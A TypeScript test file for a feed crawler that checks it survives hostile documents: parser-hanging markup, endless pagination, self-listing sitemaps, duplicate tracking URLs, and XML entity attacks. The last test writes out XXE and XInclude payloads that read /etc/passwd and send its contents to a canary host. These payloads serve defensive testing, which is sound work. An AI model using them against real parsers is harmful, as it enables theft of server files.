// D1, N5, N7: documents made to hang or to never end. The thread is killed, the source or article says "too complex",
// and everything else goes on. (How far the main thread falls behind meanwhile: `npm run bench`.)
import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startParsers } from '../../src/parsers.ts'
import { hostileFeeds, hostilePages, rss } from './hostile-documents.ts'
import { hoursLater, type Line, makeSource, openLine, START } from './line-kit.ts'
import {
  type ScriptedSites,
  serveStories,
  startScriptedSites,
  storyText,
  writeFeed,
  writePage,
} from './scripted-site.ts'

let sites: ScriptedSites
const lines: Line[] = []
beforeAll(async () => {
  sites = await startScriptedSites()
})
afterAll(async () => {
  await Promise.all(lines.map((line) => line.close()))
  await sites.close()
})

describe('feeds and pages made to hang (N5)', () => {
  it('end at the deadline or before; the others are read; the main thread goes on', async () => {
    const host = 'hostile.example'
    serveStories(sites, host)
    for (const [name, write] of Object.entries(hostileFeeds)) {
      const body = write()
      sites.on(`${host}/feed-${name}`, { type: 'application/rss+xml', body })
    }
    for (const [name, write] of Object.entries(hostilePages)) {
      const body = write()
      sites.on(`${host}/page-${name}`, { body })
    }
    const pages = Object.keys(hostilePages).map((name) => ({
      id: `page-${name}`,
      text: storyText(name, 2).join(' '),
    }))
    sites.on(`${host}/good`, writeFeed(host, [...pages, { id: 'sound-1' }, { id: 'sound-2' }]))
    const names = Object.keys(hostileFeeds)
    const sources = names.map((name) => makeSource(name, `http://${host}/feed-${name}`))
    // What these feeds list is not ours: their entries are recorded, their pages not fetched.
    for (const source of sources) source.allOurs = false
    const line = await openLine(sites, {
      sources: [...sources, makeSource('good', `http://${host}/good`)],
      limits: { deadlineMs: 2_500, threads: 2 },
    })
    lines.push(line)
    line.watch.topics.relevance.against.push({ name: 'tests', words: ['item'] })
    await line.crawl(START)
    process.stdout.write(`hostile documents: ${await line.failures()}\n`)
    const states = new Map((await line.store.listSourceStates()).map((state) => [state.sourceName, state]))
    expect([...states.keys()].sort()).toEqual([...names, 'good'].sort())
    for (const name of names) {
      const { lastFailureKind, lastAnsweredAt } = states.get(name)!
      expect(['too-complex', 'no-feed', 'parser-crashed', null], name).toContain(lastFailureKind)
      expect(lastFailureKind !== null || lastAnsweredAt !== null, name).toBe(true)
    }
    const stored = (await line.articles()).map((article) => article.url.split('/').pop()).sort()
    expect(stored).toEqual([...pages.map((page) => page.id), 'sound-1', 'sound-2'].sort())
  })
})

describe('one page of a hundred that the extractor cannot end (D1)', () => {
  it('a hundred are stored, the one from its feed, flagged, and read when its page becomes readable', async () => {
    const host = 'hundred.example'
    serveStories(sites, host)
    // 5 MB of markup take hundreds of milliseconds on any machine; its thread gets one, the others' a minute.
    const slow = `<!doctype html><title>h-7</title><body>${Array.from({ length: 60_000 }, (_, i) => `<div><p>Sentence ${i}, with a <b>bold</b> word, and <a href="/${i}">a link</a>, of a page without end.</p></div>`).join('')}`
    sites.on(`${host}/h-7`, ({ times }) => (times === 1 ? slow : writePage('h-7')))
    const items = Array.from({ length: 100 }, (_, i) => ({
      id: `h-${i}`,
      text: storyText(`feed-${i}`, 2).join(' '),
    }))
    sites.on(`${host}/feed`, writeFeed(host, items))
    const line = await openLine(sites, {
      sources: [makeSource('hundred', `http://${host}/feed`)],
      limits: { deadlineMs: 60_000 },
      wrapParsers: (patient) => {
        const hasty = startParsers(() => new Date(START), { threads: 1, deadlineMs: 1 })
        return {
          ...patient,
          parseArticle: (input) => (input.html === slow ? hasty : patient).parseArticle(input),
          close: () => Promise.all([hasty.close(), patient.close()]).then(() => {}),
        }
      },
    })
    lines.push(line)
    expect((await line.crawl(START)).articles).toBe(100)
    const flagged = (await line.articles()).filter((article) => article.extractor === 'feed')
    expect(flagged.map((article) => article.url)).toEqual([`http://${host}/h-7`])
    expect(flagged[0]!.qualityReasons.join()).toMatch(/too complex/i)
    const failures = await line.store.listFailures({ limit: 10 })
    expect(failures).toMatchObject([{ kind: 'too-complex', articleId: flagged[0]!.id }])
    await line.recheck(hoursLater(7))
    expect((await line.store.readArticle(flagged[0]!.id))!.extractor).not.toBe('feed')
    expect(await line.failures()).toEqual([])
  })
})

describe('documents that lead on for ever (N7)', () => {
  it('rel=next without end: a few pages at first sight, none later', async () => {
    const host = 'endless.example'
    serveStories(sites, host)
    sites.on(`${host}/*`, ({ address }) => {
      const page = Number(/page=(\d+)/.exec(address)?.[1] ?? 1)
      if (address.endsWith('robots.txt')) return { status: 404 }
      if (!address.includes('feed')) return writePage(address.split('/').pop()!)
      const next = `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="next" href="http://${host}/feed?page=${page + 1}"/>`
      return writeFeed(host, [{ id: `p-${page}` }], next)
    })
    const line = await openLine(sites, { sources: [makeSource('endless', `http://${host}/feed?page=1`)] })
    lines.push(line)
    await line.crawl(START)
    const feeds = () => sites.asked().filter((ask) => ask.address.startsWith(`${host}/feed`)).length
    expect(feeds()).toBeGreaterThan(2)
    expect(feeds()).toBeLessThanOrEqual(20)
    const first = feeds()
    await line.crawl(hoursLater(200))
    expect(feeds()).toBe(first + 1)
  })

  it('a feed whose next page is itself, and a sitemap index that lists itself, are asked once', async () => {
    const host = 'circle.example'
    serveStories(sites, host)
    const next = `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="next" href="http://${host}/feed"/>`
    sites.on(`${host}/feed`, writeFeed(host, [{ id: 'circle-1' }], next))
    const child = `<sitemap><loc>http://${host}/index.xml</loc></sitemap>`
    const index = `<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${child.repeat(500)}</sitemapindex>`
    sites.on(`${host}/index.xml`, { type: 'application/xml', body: index })
    const line = await openLine(sites, {
      sources: [
        makeSource('loop', `http://${host}/feed`),
        makeSource('index', `http://${host}/index.xml`, { method: 'sitemap' }),
      ],
    })
    lines.push(line)
    await line.crawl(START)
    expect(sites.asked(`${host}/feed`)).toHaveLength(1)
    expect(sites.asked(`${host}/index.xml`)).toHaveLength(1)
  })

  it('a calendar whose every day leads to the next: a few days at first sight, none later', async () => {
    const host = 'calendar.example'
    serveStories(sites, host)
    const dayAt = (n: number) => new Date(Date.parse(START) + n * 86_400_000).toISOString().slice(0, 10)
    sites.on(`${host}/*`, ({ address }) => {
      if (address.endsWith('robots.txt')) return { status: 404 }
      const day = /day=([\d-]+)/.exec(address)?.[1]
      if (!day) return writePage(address.split('/').pop()!)
      const n = Math.round((Date.parse(day) - Date.parse(dayAt(0))) / 86_400_000)
      const next = `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="next" href="http://${host}/feed?day=${dayAt(n + 1)}"/>`
      const more = `<a href="/feed?day=${dayAt(n + 2)}">the day after</a>`
      return writeFeed(host, [{ id: `day-${n}`, text: `A hospital takes up a model. ${more}` }], next)
    })
    const line = await openLine(sites, {
      sources: [makeSource('calendar', `http://${host}/feed?day=${dayAt(0)}`)],
    })
    lines.push(line)
    await line.crawl(START)
    const asked = () => sites.asked().filter((ask) => ask.address.startsWith(`${host}/`)).length
    expect(asked()).toBeLessThanOrEqual(20)
    const first = asked()
    await line.crawl(hoursLater(200))
    expect(asked()).toBe(first + 1)
  })

  it.each([
    [
      'what marks the visitor',
      'variants.example',
      ['utm_source', 'utm_campaign', 'fbclid', 'gclid', 'mc_eid'],
    ],
    ['a number that means nothing', 'numbers.example', ['a']],
  ])('a thousand addresses of one article that differ by %s: one article', async (_, host, mark) => {
    const text = storyText(host)
    const head = `<link rel="canonical" href="http://${host}/story">`
    sites.on(`${host}/*`, ({ address }) =>
      address.endsWith('robots.txt') ? { status: 404 } : writePage(host, { text, head }),
    )
    const items = Array.from({ length: 1_000 }, (_, i) => ({
      id: `${mark[0]}-${i}`,
      title: mark.length > 1 ? `Hospital takes up an AI scribe, ${i}` : 'Hospital takes up an AI scribe',
      link: `http://${host}/story?${mark[i % mark.length]}=${i}${i % 3 ? '' : '#top'}`,
    }))
    sites.on(`${host}/feed`, writeFeed(host, items))
    const line = await openLine(sites, { sources: [makeSource(host.split('.')[0]!, `http://${host}/feed`)] })
    lines.push(line)
    await line.crawl(START)
    expect(line.ask('select count(*) from articles')).toBe(1)
    expect(sites.asked().filter((ask) => ask.address.startsWith(`${host}/`)).length).toBeLessThanOrEqual(20)
    expect(await line.failures()).toEqual([])
  })

  it('a part that fails does not take the whole along: it stays on record, and the whole is asked for again', async () => {
    const host = 'parts.example'
    serveStories(sites, host)
    let broken = true
    const map = (path: string, id: string) => {
      sites.on(`${host}/${path}`, () =>
        broken && path === 'two.xml'
          ? { status: 500 }
          : {
              type: 'application/xml',
              body: `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>http://${host}/${id}</loc><lastmod>2026-03-02</lastmod></url></urlset>`,
            },
      )
      return `<sitemap><loc>http://${host}/${path}</loc><lastmod>2026-03-02</lastmod></sitemap>`
    }
    const index = `<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${map('one.xml', 'part-1')}${map('two.xml', 'part-2')}</sitemapindex>`
    sites.on(`${host}/index.xml`, ({ headers }) =>
      headers['if-none-match']
        ? { status: 304 }
        : { type: 'application/xml', body: index, headers: { etag: '"i"' } },
    )
    const line = await openLine(sites, {
      sources: [makeSource('parts', `http://${host}/index.xml`, { method: 'sitemap' })],
    })
    lines.push(line)
    expect((await line.crawl(START)).articles).toBe(1)
    expect(await line.failures()).toEqual(['http-5xx'])
    broken = false
    expect((await line.crawl(hoursLater(48))).articles).toBe(1)
    expect(await line.failures()).toEqual([])
    await line.crawl(hoursLater(96))
    expect(sites.asked(`${host}/index.xml`).map((ask) => ask.headers['if-none-match'])).toEqual([
      undefined,
      undefined,
      '"i"',
    ])
  })
})

describe('documents that ask their reader to fetch or to read files (N4)', () => {
  it('through the whole line: nobody is asked for anything, and nothing of this machine is stored', async () => {
    const host = 'entities.example'
    const bait = `http://${host}/canary`
    const secret = '/etc/passwd'
    const feed = (id: string, before: string, item: string) => {
      const body = rss(`<item><guid>${id}</guid><link>http://${host}/p-${id}</link>${item}</item>`, before)
      sites.on(`${host}/feed-${id}`, { type: 'application/rss+xml', body })
      sites.on(`${host}/p-${id}`, {
        body: `<?xml version="1.0"?>${before}<html xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>A story of ${id}</title></head><body><article>
          <h1>A story of ${id}</h1>${storyText(id)
            .map((line) => `<p>${line}</p>`)
            .join('')}${item}</article></body></html>`,
      })
      return makeSource(id, `http://${host}/feed-${id}`)
    }
    const title = (more: string) => `<title>Hospital reads &amp; writes ${more}</title>`
    const sources = [
      feed('file', `<!DOCTYPE rss [<!ENTITY x SYSTEM "file://${secret}">]>`, title('&x;')),
      feed('web', `<!DOCTYPE rss [<!ENTITY x SYSTEM "${bait}-1">]>`, title('&x;')),
      feed('public', `<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//Y" "${bait}-2">]>`, title('&x;')),
      feed('dtd', `<!DOCTYPE rss SYSTEM "${bait}-3.dtd">`, title('&x;')),
      feed('parameter', `<!DOCTYPE rss [<!ENTITY % p SYSTEM "${bait}-4">%p;]>`, title('')),
      feed(
        'nested',
        `<!DOCTYPE rss [<!ENTITY % f SYSTEM "file://${secret}"><!ENTITY % e "<!ENTITY x SYSTEM '${bait}-5?%f;'>">%e;]>`,
        title('&x;'),
      ),
      feed(
        'include',
        '',
        `${title('')}<description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secret}" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${bait}-6"/></description>`,
      ),
      feed('sheet', `<?xml-stylesheet type="text/xsl" href="${bait}-7.xsl"?>`, title('')),
      feed(
        'picture',
        '',
        `${title('')}<description>&lt;img src="${bait}-8"&gt;&lt;iframe src="${bait}-9"&gt;</description>`,
      ),
    ]
    const line = await openLine(sites, { sources })
    lines.push(line)
    await line.crawl(START)
    const states = await line.store.listSourceStates()
    expect(states).toHaveLength(sources.length)
    expect(sites.asked().filter((ask) => ask.address.includes('canary'))).toEqual([])
    const articles = await line.articles()
    expect(articles.length).toBeGreaterThan(0)
    const ofThisMachine = readFileSync(secret, 'utf8').split('\n')[0]!
    for (const file of readdirSync(line.folder).filter((name) => !name.endsWith('.lock')))
      expect(readFileSync(path.join(line.folder, file)).includes(ofThisMachine), file).toBe(false)
    expect(JSON.stringify(articles)).not.toContain(ofThisMachine)
  })
})
